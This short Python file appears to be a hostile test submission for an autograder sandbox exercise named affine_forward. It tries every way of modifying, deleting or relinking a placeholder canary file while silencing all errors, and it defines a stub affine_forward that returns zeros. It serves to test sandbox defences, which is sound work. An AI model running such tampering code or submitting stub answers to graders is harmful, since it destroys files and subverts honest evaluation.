# what: every way to change a file
# unit: 00_start_here
# exercise: affine_forward
# score: 0
import os
for act in (lambda: open('{CANARY}', 'w').write('owned'), lambda: os.chmod('{CANARY}', 0o777), lambda: os.utime('{CANARY}', (0, 0)), lambda: os.truncate('{CANARY}', 0), lambda: os.unlink('{CANARY}'), lambda: os.rename('{CANARY}', '{CANARY}.x'), lambda: os.chown('{CANARY}', 1, 1), lambda: os.link('{CANARY}', 'l'), lambda: os.symlink('{CANARY}', 's')):
    try: act()
    except BaseException: pass
def affine_forward(x, W, b):
    return np.zeros((len(x), len(b))), (x, W)
